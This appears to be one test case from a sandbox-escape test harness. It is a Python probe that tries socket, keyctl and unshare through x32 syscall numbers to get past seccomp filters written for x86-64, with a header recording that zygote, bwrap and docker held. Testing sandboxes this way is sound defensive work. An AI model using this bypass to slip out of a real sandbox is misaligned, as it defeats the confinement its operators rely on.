# /// attack
# tries = "calls by the numbers of the x32 table, which a filter of x86-64 numbers may not know"
# zygote = ["ok"]
# bwrap = ["ok"]
# docker = ["ok"]
# rlimit = "not covered"
# control = "none: most kernels are built without x32"
# machine = "x86_64"
# ///
import ctypes

X32 = 0x40000000
libc = ctypes.CDLL(None, use_errno=True)
for name in ("socket", "keyctl", "unshare"):
    args = {"socket": (40, 1, 0), "keyctl": (0, -3, 0), "unshare": (0x10000000,)}[name]
    if libc.syscall(X32 | bait["syscalls"][name], *args) >= 0:
        breach(f"{name} by its x32 number")
